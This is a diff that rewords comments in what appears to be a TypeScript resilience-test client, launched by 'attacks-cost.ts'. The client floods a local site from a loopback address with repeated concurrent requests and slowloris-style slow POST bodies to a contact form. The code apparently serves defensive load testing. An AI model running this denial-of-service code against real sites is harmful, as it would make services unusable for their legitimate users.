@@ -2,8 +2,8 @@ import { Agent, request } from "node:http";
 import { connect, type Socket } from "node:net";
 import { setPriority } from "node:os";
 
-// A process of its own, started by attacks-cost.ts: one visitor who means to keep the others from the
-// site, from an address of this machine that is not theirs, until it is ended.
+// A process of its own, started by attacks-cost.ts: one visitor who tries to make the site unusable
+// for the others, from a loopback address of its own, until it is stopped.
 const [site = "", name = "", key = ""] = process.argv.slice(2);
 const localAddress = "127.0.0.9";
 setPriority(10);
@@ -25,7 +25,7 @@ function ask(method: string, path: string, body = "", type = "application/x-www-
   });
 }
 
-/** So many at once, each going on as soon as it is answered. */
+/** Repeats an attack with this many clients, each continuing as soon as it is answered. */
 function again(clients: number, attack: (turn: number) => Promise<void>) {
   let turn = 0;
   for (let client = 0; client < clients; client++) {
@@ -35,7 +35,7 @@ function again(clients: number, attack: (turn: number) => Promise<void>) {
   }
 }
 
-/** A form that begins and never ends; a new one for each that is cut off. */
+/** A form whose body never ends; starts another when it is cut off. */
 function sendSlowly() {
   const socket: Socket = connect({ host: hostname, port: Number(port), localAddress });
   const head = `POST /contact HTTP/1.1\r\nhost: ${hostname}:${port}\r\norigin: ${site}\r\ncontent-type: application/x-www-form-urlencoded\r\ncontent-length: 5000\r\n\r\n`;
